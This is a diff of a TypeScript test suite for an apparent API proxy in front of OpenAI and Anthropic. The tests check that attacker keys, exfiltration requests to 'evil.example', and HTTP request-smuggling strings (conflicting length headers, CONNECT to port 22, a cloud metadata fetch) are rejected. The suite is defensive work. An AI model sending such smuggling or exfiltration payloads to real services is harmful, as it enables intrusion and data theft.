@@ -59,7 +59,7 @@ async function attack(plan: Step[], upstream: string, { api = 'openai', files = 
       `model.base_url=${upstream}`,
       'model.key_env=HALO_TEST_CANARY',
       'model.name=m',
-      'gates=["true"]',
+      'gates=[]',
       // What the attacker reads of /proc holds NUL characters.
       'land.hidden_characters=report',
       'retry.attempts=1',
@@ -176,130 +176,127 @@ const PRD = {
   ),
 };
 
-describe('attack 4, incident files-api: a key of the attacker', () => {
-  it('is dropped in every spelling, and the operations that would use it do not exist', async () => {
-    const server = await model();
-    const names = ['x-api-key', 'X_API_KEY', 'x.api.key', 'Authorization', 'Api-Key', 'Cookie', 'OpenAI-Organization'];
-    const headers = names.map((name) => `${name}: Bearer sk-of-the-attacker`);
-    const paths = [
-      '/v1/files',
-      '/v1/uploads',
-      '/v1/batches',
-      '/v1/models',
-      '/v1/vector_stores',
-      '/v1/fine_tuning/jobs',
-    ];
+/** Answers to all plans of one story, by their names, and what its provider received. */
+async function attackAll<Name extends string>(plans: Record<Name, Step[]>, api: 'openai' | 'anthropic') {
+  const server = await startModelServer({ turns: Array.from({ length: 50 }, () => ({ say: 'hello' })) });
+  try {
+    const all = Object.entries<Step[]>(plans);
     const { answers } = await attack(
-      [{ ...ask(), headers }, ...paths.map((path) => ({ path, headers, body: {} }))],
+      all.flatMap(([, plan]) => plan),
       server.url,
+      { api },
     );
-    expect(answers.map(statusOf)).toEqual([200, ...paths.map(() => 404)]);
-    expect(server.requests).toHaveLength(1);
-    expect(JSON.stringify(server.requests)).not.toContain('sk-of-the-attacker');
+    const parts = all.map(([name, plan]) => [name, answers.splice(0, plan.length)]);
+    return { answers: Object.fromEntries(parts) as Record<Name, string[]>, requests: server.requests };
+  } finally {
+    await server.close();
+  }
+}
+
+const KEY_NAMES = ['x-api-key', 'X_API_KEY', 'x.api.key', 'Authorization', 'Api-Key', 'Cookie', 'OpenAI-Organization'];
+const KEYS = KEY_NAMES.map((name) => `${name}: Bearer sk-of-the-attacker`);
+const FOREIGN_PATHS = ['/v1/files', '/v1/uploads', '/v1/batches', '/v1/models', '/v1/vector_stores', '/v1/fine_tuning/jobs']; // prettier-ignore
+const part = (one: object) => ({ input: [{ role: 'user', content: [one] }] });
+const TOOLS = ['web_search', 'web_search_preview', 'code_interpreter', 'mcp', 'file_search', 'image_generation'];
+const EXFILTRATION: object[] = [
+  ...TOOLS.map((type) => ({ tools: [{ type, server_url: 'https://evil.example' }] })),
+  { tools: [{ type: 'computer_use_preview' }] },
+  part({ type: 'input_image', image_url: 'https://evil.example/?stolen' }),
+  part({ type: 'input_file', file_url: 'https://evil.example/?stolen' }),
+  part({ type: 'input_file', file_id: 'file-of-the-attacker' }),
+  { previous_response_id: 'resp_of_the_attacker' },
+  { background: true },
+  { prompt: { id: 'pmpt_of_the_attacker' } },
+  { model: 'most-expensive' },
+];
+const TWICE = '{"model":"m","input":[],"tools":[],"tools":[{"type":"web_search"}]}';
+
+const CHUNKED_BODY = '{"model":"m","input":[]}';
+const CHUNKED = `18\r\n${CHUNKED_BODY}\r\n0\r\n\r\n`;
+const LINE = 'POST /v1/responses HTTP/1.1\r\nHost: x\r\n';
+const whole = (target: string) => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`;
+const TARGETS = ['http://evil.example/v1/responses', '//evil.example/v1/responses', '/v1/%72esponses', '/v1/responses?x']; // prettier-ignore
+const AMBIGUOUS = [
+  `${LINE}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${CHUNKED}`,
+  `${LINE}Transfer-Encoding: chunked\r\nContent-Length: 24\r\n\r\n${CHUNKED}`,
+  `${LINE}Transfer-Encoding: xchunked\r\n\r\n${CHUNKED}`,
+  `${LINE}Content-Length: 24\r\nContent-Length: 25\r\n\r\n${CHUNKED_BODY}`,
+  `${LINE}Host: y\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`,
+  ...TARGETS.map(whole),
+  'TRACE /v1/responses HTTP/1.1\r\nHost: x\r\n\r\n',
+  `GET /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${CHUNKED_BODY}`,
+  'CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n',
+  'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n',
+].map((raw) => ({ raw }));
+
+const askAnthropic = (more: object): Step => ({
+  path: '/v1/messages',
+  body: { model: 'm', max_tokens: 1, messages: [], ...more },
+});
+const source = (type: string, more: object) => ({ messages: [{ role: 'user', content: [{ type, source: more }] }] });
+const ANTHROPIC_TOOLS = ['web_search_20250305', 'web_fetch_20250910', 'code_execution_20250825', 'computer_20250124'];
+const ANTHROPIC_EXFILTRATION = [
+  ...ANTHROPIC_TOOLS.map((type) => ({ tools: [{ type, name: 'x' }] })),
+  { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
+  { container: 'container_of_the_attacker' },
+  source('image', { type: 'url', url: 'https://evil.example/?stolen' }),
+  source('document', { type: 'url', url: 'https://evil.example/?stolen' }),
+  source('document', { type: 'file', file_id: 'file_of_the_attacker' }),
+];
+
+let openai: Awaited<ReturnType<typeof attackAll<'keys' | 'exfiltration' | 'ambiguous'>>>;
+let anthropic: Awaited<ReturnType<typeof attackAll<'keys' | 'exfiltration'>>>;
+beforeAll(async () => {
+  const keys = [{ ...ask(), headers: KEYS }, ...FOREIGN_PATHS.map((path) => ({ path, headers: KEYS, body: {} }))];
+  const more = [{ path: '/v1/responses', body: TWICE }, ask({ store: true })];
+  const exfiltration = [...EXFILTRATION.map((body) => ask(body)), ...more];
+  openai = await attackAll({ keys, exfiltration, ambiguous: AMBIGUOUS }, 'openai');
+  const headers = ['x-api-key: sk-of-the-attacker', 'anthropic-beta: files-api-2025-04-14'];
+  const foreign = [
+    { ...askAnthropic({}), path: '/v1/messages?beta=true', headers },
+    { path: '/v1/files', headers, body: {} },
+    { path: '/v1/messages/batches', headers, body: { requests: [] } },
+  ];
+  anthropic = await attackAll({ keys: foreign, exfiltration: ANTHROPIC_EXFILTRATION.map(askAnthropic) }, 'anthropic');
+});
+
+describe('attack 4, incident files-api: a key of the attacker', () => {
+  it('is dropped in every spelling, and the operations that would use it do not exist', () => {
+    expect(openai.answers.keys.map(statusOf)).toEqual([200, ...FOREIGN_PATHS.map(() => 404)]);
+    expect(openai.requests[0]?.headers.authorization).toBe(`Bearer ${CANARY}`);
+    expect(JSON.stringify(openai.requests)).not.toContain('sk-of-the-attacker');
   });
 
-  it('is dropped in requests to Anthropic as well', async () => {
-    const server = await model();
-    const headers = ['x-api-key: sk-of-the-attacker', 'anthropic-beta: files-api-2025-04-14'];
-    const body = { model: 'm', max_tokens: 1, messages: [] };
-    const { answers } = await attack(
-      [
-        { path: '/v1/messages?beta=true', headers, body },
-        { path: '/v1/files', headers, body: {} },
-        { path: '/v1/messages/batches', headers, body: { requests: [] } },
-      ],
-      server.url,
-      { api: 'anthropic' },
-    );
-    expect(answers.map(statusOf)).toEqual([200, 404, 404]);
-    expect(server.requests.map(({ headers: sent }) => sent['x-api-key'])).toEqual([CANARY]);
-    expect(JSON.stringify(server.requests)).not.toMatch(/of-the-attacker|files-api/);
+  it('is dropped in requests to Anthropic as well', () => {
+    expect(anthropic.answers.keys.map(statusOf)).toEqual([200, 404, 404]);
+    expect(anthropic.requests.map(({ headers: sent }) => sent['x-api-key'])).toEqual([CANARY]);
+    expect(JSON.stringify(anthropic.requests)).not.toMatch(/of-the-attacker|files-api/);
   });
 });
 
 describe('attack 5: a provider that is used for exfiltration', () => {
-  it('receives no provider-side tools, URLs, stored objects or models that are not allowed', async () => {
-    const server = await model();
-    const part = (one: object) => ({ input: [{ role: 'user', content: [one] }] });
-    const bodies: object[] = [
-      ...['web_search', 'web_search_preview', 'code_interpreter', 'mcp', 'file_search', 'image_generation'].map(
-        (type) => ({
-          tools: [{ type, server_url: 'https://evil.example' }],
-        }),
-      ),
-      { tools: [{ type: 'computer_use_preview' }] },
-      part({ type: 'input_image', image_url: 'https://evil.example/?stolen' }),
-      part({ type: 'input_file', file_url: 'https://evil.example/?stolen' }),
-      part({ type: 'input_file', file_id: 'file-of-the-attacker' }),
-      { previous_response_id: 'resp_of_the_attacker' },
-      { background: true },
-      { prompt: { id: 'pmpt_of_the_attacker' } },
-      { model: 'most-expensive' },
-    ];
-    const twice = '{"model":"m","input":[],"tools":[],"tools":[{"type":"web_search"}]}';
-    const { answers } = await attack(
-      [...bodies.map((body) => ask(body)), { path: '/v1/responses', body: twice }, ask({ store: true })],
-      server.url,
-    );
-    expect(answers.map(statusOf)).toEqual([...bodies.map(() => 400), 400, 200]);
-    expect(server.requests.map(({ body }) => JSON.parse(body) as unknown)).toEqual([
-      { model: 'm', input: [], store: false },
-    ]);
+  it('receives no provider-side tools, URLs, stored objects or models that are not allowed', () => {
+    expect(openai.answers.exfiltration.map(statusOf)).toEqual([...EXFILTRATION.map(() => 400), 400, 200]);
+    // The first one is of the attack with keys, the second one the last of these.
+    const received = openai.requests.map(({ body }) => JSON.parse(body) as unknown);
+    expect(received).toEqual([expect.anything(), { model: 'm', input: [], store: false }]);
   });
 
-  it('receives none of these through Anthropic’s API either', async () => {
-    const server = await model();
-    const ask = (more: object): Step => ({
-      path: '/v1/messages',
-      body: { model: 'm', max_tokens: 1, messages: [], ...more },
-    });
-    const source = (type: string, more: object) => ({
-      messages: [{ role: 'user', content: [{ type, source: more }] }],
-    });
-    const bodies = [
-      ...['web_search_20250305', 'web_fetch_20250910', 'code_execution_20250825', 'computer_20250124'].map((type) => ({
-        tools: [{ type, name: 'x' }],
-      })),
-      { mcp_servers: [{ type: 'url', url: 'https://evil.example', name: 'x' }] },
-      { container: 'container_of_the_attacker' },
-      source('image', { type: 'url', url: 'https://evil.example/?stolen' }),
-      source('document', { type: 'url', url: 'https://evil.example/?stolen' }),
-      source('document', { type: 'file', file_id: 'file_of_the_attacker' }),
-    ];
-    const { answers } = await attack(bodies.map(ask), server.url, { api: 'anthropic' });
-    expect(answers.map(statusOf)).toEqual(bodies.map(() => 400));
-    expect(server.requests).toEqual([]);
+  it('receives none of these through Anthropic’s API either', () => {
+    expect(anthropic.answers.exfiltration.map(statusOf)).toEqual(ANTHROPIC_EXFILTRATION.map(() => 400));
+    // Only the one of the attack with keys.
+    expect(anthropic.requests).toHaveLength(1);
   });
 });
 
 describe('attack 6: bytes that two parsers interpret differently', () => {
-  it('reach no provider', async () => {
-    const server = await model();
-    const body = '{"model":"m","input":[]}';
-    const chunked = `18\r\n${body}\r\n0\r\n\r\n`;
-    const line = 'POST /v1/responses HTTP/1.1\r\nHost: x\r\n';
-    const whole = (target: string) => `POST ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${body}`;
-    const plan = [
-      `${line}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n${chunked}`,
-      `${line}Transfer-Encoding: chunked\r\nContent-Length: 24\r\n\r\n${chunked}`,
-      `${line}Transfer-Encoding: xchunked\r\n\r\n${chunked}`,
-      `${line}Content-Length: 24\r\nContent-Length: 25\r\n\r\n${body}`,
-      `${line}Host: y\r\nContent-Length: 24\r\n\r\n${body}`,
-      ...['http://evil.example/v1/responses', '//evil.example/v1/responses', '/v1/%72esponses', '/v1/responses?x'].map(
-        whole,
-      ),
-      'TRACE /v1/responses HTTP/1.1\r\nHost: x\r\n\r\n',
-      `GET /v1/responses HTTP/1.1\r\nHost: x\r\nContent-Length: 24\r\n\r\n${body}`,
-      'CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: x\r\n\r\n',
-      'GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n',
-    ].map((raw) => ({ raw }));
-    const { answers } = await attack(plan, server.url);
-    for (const [index, answer] of answers.entries())
-      expect([plan[index]?.raw, statusOf(answer)]).toEqual([
-        plan[index]?.raw,
+  it('reach no provider', () => {
+    for (const [index, answer] of openai.answers.ambiguous.entries())
+      expect([AMBIGUOUS[index]?.raw, statusOf(answer)]).toEqual([
+        AMBIGUOUS[index]?.raw,
         expect.toSatisfy((s: number) => s < 200 || s >= 400),
       ]);
-    expect(server.requests).toEqual([]);
+    expect(openai.requests, 'only those of the other attacks').toHaveLength(2);
   });
 });
 
